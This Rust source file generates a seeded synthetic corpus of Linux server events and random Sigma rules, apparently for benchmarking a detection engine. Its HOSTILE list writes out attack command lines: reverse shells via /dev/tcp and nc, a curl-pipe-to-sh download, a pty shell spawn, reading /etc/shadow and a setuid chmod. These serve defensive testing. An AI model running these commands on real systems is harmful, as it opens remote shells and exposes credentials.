//! A seeded corpus: the same events and rules on every machine, so that figures can be compared.
//!
//! The events look like those of a Linux server: 45 % program starts, 35 % file opens, 20 % connects, from
//! a few hundred processes that each leave several events. One in two hundred is part of an attack.
//! The rules look like the public ones: mostly a suffix of the program's path and words of its command line.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;

use fastrand::Rng;
use lavender_core::event::{
    Arguments, Credentials, Event, EventData, Exec, Executable, FileOpen, Namespaces, NetConnect,
    NetworkTransport, OpenFlags, Process, SyscallResult,
};
use lavender_core::{
    AgentId, AgentIdentity, BootId, BootTime, Captured, ExecId, IdError, Origin, ProcessId,
    Sequencer, TenantId, Timestamp,
};

/// The seed of every published figure.
pub const SEED: u64 = 20_260_101;

const BOOT: BootId = BootId::from_u128(0x6c61_7665_6e64_6572);

/// Program and arguments; `{f}` stands for a file, `{h}` for a host, `{n}` for a number.
const ORDINARY: [(&str, &str); 56] = [
    ("/usr/bin/ls", "ls --color=auto -la {f}"),
    ("/usr/bin/git", "git -C {f} rev-parse --abbrev-ref HEAD"),
    ("/usr/bin/git", "git fetch --prune --quiet origin"),
    ("/usr/bin/cat", "cat {f}"),
    ("/usr/bin/grep", "grep -rn --include=*.conf listen {f}"),
    ("/usr/bin/find", "find {f} -name *.log -mtime +{n}"),
    ("/usr/bin/ps", "ps -eo pid,ppid,user,args --sort=-pcpu"),
    ("/usr/bin/tar", "tar -czf {f}.tar.gz {f}"),
    ("/usr/bin/python3.11", "python3 /opt/app/worker.py --queue default --concurrency {n}"),
    ("/usr/bin/node", "node /srv/web/server.js --port {n}"),
    ("/usr/sbin/nginx", "nginx: worker process"),
    ("/usr/lib/postgresql/15/bin/postgres", "postgres: app app 10.0.3.{n}(4{n}) SELECT"),
    ("/usr/bin/bash", "bash -c cd {f} && make -j{n}"),
    ("/usr/bin/dash", "sh -c test -f {f}"),
    ("/usr/bin/curl", "curl -fsS https://{h}/healthz"),
    ("/usr/bin/ssh", "ssh -o BatchMode=yes deploy@{h} uptime"),
    ("/usr/bin/rsync", "rsync -a --delete {f}/ backup@{h}:{f}/"),
    ("/usr/bin/systemctl", "systemctl is-active app-{n}.service"),
    ("/usr/bin/gcc-12", "gcc -O2 -g -c -o {f}.o {f}.c"),
    ("/usr/libexec/gcc/x86_64-linux-gnu/12/cc1", "cc1 -quiet -O2 {f}.c -o /tmp/cc{n}.s"),
    ("/usr/bin/dpkg", "dpkg --print-architecture"),
    ("/usr/bin/sed", "sed -i s/a{n}/b{n}/ {f}"),
    ("/usr/bin/awk", "awk {print $1} {f}"),
    ("/usr/bin/date", "date +%s"),
    (
        "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
        "java -Xms512m -Xmx2g -XX:+UseG1GC -Djava.io.tmpdir=/tmp -jar /opt/app/service-{n}.jar --spring.profiles.active=prod",
    ),
    ("/usr/bin/docker", "docker inspect --format {{.State.Health.Status}} app-{n}"),
    ("/usr/bin/docker", "docker logs --since 5m --tail 200 app-{n}"),
    (
        "/usr/bin/containerd-shim-runc-v2",
        "containerd-shim-runc-v2 -namespace moby -id 4f{n}c0ffee -address /run/containerd/containerd.sock",
    ),
    (
        "/usr/sbin/runc",
        "runc --root /var/run/docker/runtime-runc/moby --log-format json state 4f{n}c0ffee",
    ),
    (
        "/usr/bin/kubectl",
        "kubectl get pods --namespace prod-{n} --output json --request-timeout=10s",
    ),
    (
        "/usr/bin/psql",
        "psql -h {h} -U app -d app_{n} -At -c SELECT count(*) FROM jobs WHERE state = 'queued'",
    ),
    ("/usr/bin/redis-cli", "redis-cli -h {h} --raw info replication"),
    ("/usr/bin/openssl", "openssl x509 -in {f} -noout -enddate -subject"),
    ("/usr/sbin/logrotate", "logrotate --state /var/lib/logrotate/status /etc/logrotate.conf"),
    ("/usr/sbin/cron", "/usr/sbin/CRON -f -P"),
    ("/usr/bin/dash", "/bin/sh -c cd / && run-parts --report /etc/cron.hourly"),
    (
        "/usr/bin/dash",
        "sh -c [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
    ),
    ("/usr/bin/perl", "perl -ne print if /error/i {f}"),
    ("/usr/bin/apt-get", "apt-get -qq -o Dpkg::Use-Pty=0 update"),
    ("/usr/bin/dpkg-query", "dpkg-query --show --showformat=${Package} ${Version}\\n"),
    ("/usr/lib/apt/methods/http", "/usr/lib/apt/methods/http"),
    ("/usr/bin/journalctl", "journalctl -u app-{n}.service --since -10min --no-pager -o short-iso"),
    ("/usr/sbin/sshd", "sshd: deploy [priv]"),
    ("/usr/bin/bash", "-bash"),
    ("/usr/bin/sudo", "sudo -n -u deploy /usr/local/bin/deploy --env prod --revision {n}"),
    ("/usr/local/bin/deploy", "deploy --env prod --revision {n} --wait --timeout 300"),
    ("/usr/bin/env", "/usr/bin/env node /srv/web/scripts/build-{n}.js --mode production"),
    ("/usr/bin/npm", "npm ci --omit=dev --no-audit --no-fund --prefix /srv/web"),
    (
        "/usr/bin/python3.11",
        "python3 -m pip install --quiet --disable-pip-version-check -r requirements.txt",
    ),
    ("/usr/bin/ruby3.1", "ruby /usr/bin/puppet agent --onetime --no-daemonize --verbose"),
    ("/usr/bin/du", "du -sh --max-depth=1 {f}"),
    ("/usr/bin/df", "df -hT -x tmpfs -x devtmpfs"),
    ("/usr/bin/ip", "ip -json route show default"),
    ("/usr/bin/tail", "tail -n 500 -F {f}"),
    ("/usr/bin/make", "make -C {f} -j8 all"),
    ("/usr/bin/cargo", "cargo build --release --locked --manifest-path {f}"),
];

const HOSTILE: [(&str, &str); 8] = [
    ("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1"),
    ("/usr/bin/base64", "base64 -d /tmp/.x{n}"),
    ("/usr/bin/dash", "sh -c curl -s http://203.0.113.{n}/p.sh | sh"),
    ("/usr/bin/python3.11", "python3 -c import pty; pty.spawn(\"/bin/sh\")"),
    ("/usr/bin/nc.openbsd", "nc -e /bin/sh 203.0.113.{n} 4444"),
    ("/dev/shm/.k{n}", "[kworker/u4:{n}]"),
    ("/usr/bin/cat", "cat /etc/shadow"),
    ("/usr/bin/chmod", "chmod u+s /tmp/.x{n}"),
];

const FILES: [&str; 10] = [
    "/etc/ld.so.cache",
    "/usr/lib/x86_64-linux-gnu/libc.so.6",
    "/usr/share/zoneinfo/Etc/UTC",
    "/proc/self/status",
    "/var/log/app/app-{n}.log",
    "/srv/web/static/bundle-{n}.js",
    "/home/dev/src/project/src/module_{n}.rs",
    "/etc/nginx/conf.d/site-{n}.conf",
    "/var/lib/postgresql/15/main/base/16384/{n}",
    "/tmp/build-{n}/obj/file.o",
];

fn fill(template: &str, rng: &mut Rng) -> String {
    let number = rng.u32(1..9_999).to_string();
    let file = FILES[rng.usize(..FILES.len())].replace("{n}", &number);
    let host = format!("app-{}.internal.example", rng.u32(1..200));
    template.replace("{f}", &file).replace("{h}", &host).replace("{n}", &number)
}

/// Whose events these are.
///
/// # Errors
///
/// Never: the names are valid.
pub fn identity() -> Result<AgentIdentity, IdError> {
    Ok(AgentIdentity {
        tenant: TenantId::new("bench")?,
        agent: AgentId::new("bench-1")?,
        host: "bench-1.example".into(),
    })
}

/// `count` events of one host, the same for the same seed.
///
/// # Errors
///
/// Never: the names are valid.
pub fn events(seed: u64, count: usize) -> Result<Vec<Arc<Event>>, IdError> {
    let mut rng = Rng::with_seed(seed);
    let identity = identity()?;
    let ids = Sequencer::new(Origin::new(&identity.tenant, &identity.agent, BOOT));
    let mut living = vec![process(1, "/usr/lib/systemd/systemd", "systemd --system", None)];
    let mut events = Vec::with_capacity(count);
    for number in 0..count as u64 {
        let draw = rng.u32(..100);
        let data = if draw < 45 {
            let (path, arguments) = if rng.u32(..100) == 0 {
                HOSTILE[rng.usize(..HOSTILE.len())]
            } else {
                ORDINARY[rng.usize(..ORDINARY.len())]
            };
            let parent = Arc::clone(&living[rng.usize(..living.len())]);
            let (path, arguments) = (fill(path, &mut rng), fill(arguments, &mut rng));
            let started = process(number + 2, &path, &arguments, Some(parent));
            if living.len() < 400 {
                living.push(started);
            } else {
                let oldest = rng.usize(1..living.len());
                living[oldest] = started;
            }
            EventData::Exec(Exec {
                filename: Captured::complete(path.into()),
                previous_executable: None,
            })
        } else if draw < 80 {
            open(&mut rng)
        } else {
            connect(&mut rng)
        };
        let process = match data {
            EventData::Exec(_) => living.last().map(Arc::clone),
            _ => Some(Arc::clone(&living[rng.usize(..living.len())])),
        };
        let boot_time = 1_000_000_000 + number * 10_000;
        events.push(Arc::new(Event {
            id: ids.next(),
            observed_at: Timestamp::from_nanos(1_767_225_600_000_000_000 + boot_time as i64),
            boot_time: BootTime::from_nanos(boot_time),
            tid: process.as_ref().map_or(0, |process| process.pid),
            process,
            data,
        }));
    }
    Ok(events)
}

fn process(number: u64, path: &str, arguments: &str, parent: Option<Arc<Process>>) -> Arc<Process> {
    let pid = (number % 4_194_303) as u32 + 1;
    let name = path.rsplit('/').next().unwrap_or_default();
    Arc::new(Process {
        exec_id: ExecId { process: ProcessId::new(BOOT, number * 10_000, pid), generation: 1 },
        pid,
        namespace_pid: pid,
        name: name[..name.len().min(15)].into(),
        executable: Executable {
            path: Captured::complete(path.into()),
            inode: number,
            device: 0xfd00,
            memory_backed: false,
            deleted: false,
            ..Executable::default()
        },
        arguments: Captured::complete(Arguments::from_list(arguments.split(' '))),
        working_directory: Captured::complete("/srv/app".into()),
        credentials: Credentials {
            uid: 1000,
            euid: 1000,
            gid: 1000,
            egid: 1000,
            ..Credentials::default()
        },
        user: Some("app".into()),
        group: Some("app".into()),
        terminal: None,
        cgroup_id: 4_242,
        container: None,
        namespaces: Namespaces::default(),
        tree: None,
        parent_id: parent.as_ref().map(|parent| parent.exec_id),
        parent: parent.map(|parent| parent.as_parent()),
    })
}

fn open(rng: &mut Rng) -> EventData {
    let path = FILES[rng.usize(..FILES.len())].replace("{n}", &rng.u32(1..9_999).to_string());
    EventData::FileOpen(FileOpen {
        path: Captured::complete(path.into()),
        flags: OpenFlags(if rng.u32(..5) == 0 { 0o1101 } else { 0o2000000 }),
        mode: 0o644,
        result: SyscallResult(if rng.u32(..8) == 0 { -2 } else { 5 }),
        inode: rng.u64(..),
        device: 0xfd00,
    })
}

fn connect(rng: &mut Rng) -> EventData {
    let port = [443, 80, 5432, 6379, 53, 8080][rng.usize(..6)];
    let port = if rng.u32(..200) == 0 { 4444 } else { port };
    EventData::NetConnect(NetConnect {
        transport: if port == 53 { NetworkTransport::Udp } else { NetworkTransport::Tcp },
        source: Some(SocketAddr::new(Ipv4Addr::new(10, 0, 0, 7).into(), rng.u16(32_768..))),
        destination: SocketAddr::new(
            IpAddr::V4(Ipv4Addr::new(10, rng.u8(..), rng.u8(..), 9)),
            port,
        ),
        result: SyscallResult(0),
    })
}

/// `count` Sigma rules for Linux processes, files and connections, one document after the other.
///
/// None of them matches an ordinary event of [`events`]: what they cost is what looking costs.
pub fn rules(seed: u64, count: usize) -> String {
    let mut rng = Rng::with_seed(seed ^ 0x5161);
    let word = |rng: &mut Rng| -> String {
        (0..rng.usize(5..11)).map(|_| char::from(rng.u8(b'a'..=b'z'))).collect()
    };
    let mut out = String::new();
    for number in 0..count {
        let (a, b, c) = (word(&mut rng), word(&mut rng), word(&mut rng));
        let (category, selection) = match rng.u32(..10) {
            0..=5 => (
                "process_creation",
                format!(
                    "        Image|endswith: '/{a}'\n        CommandLine|contains:\n            - ' --{b}'\n            - ' -{c} '\n"
                ),
            ),
            6..=7 => (
                "process_creation",
                format!(
                    "        CommandLine|contains|all:\n            - '{a}'\n            - '/tmp/{b}'\n"
                ),
            ),
            8 => ("file_event", format!("        TargetFilename|startswith: '/etc/{a}/'\n")),
            _ => (
                "network_connection",
                format!(
                    "        Image|endswith: '/{a}'\n        DestinationPort: {}\n",
                    rng.u16(20_000..)
                ),
            ),
        };
        out.push_str(&format!(
            "---\ntitle: Bench rule {number}\nid: {:08x}-0000-4000-8000-{number:012x}\nstatus: test\nlevel: medium\nlogsource:\n    product: linux\n    category: {category}\ndetection:\n    selection:\n{selection}    condition: selection\n",
            rng.u32(..)
        ));
    }
    out
}
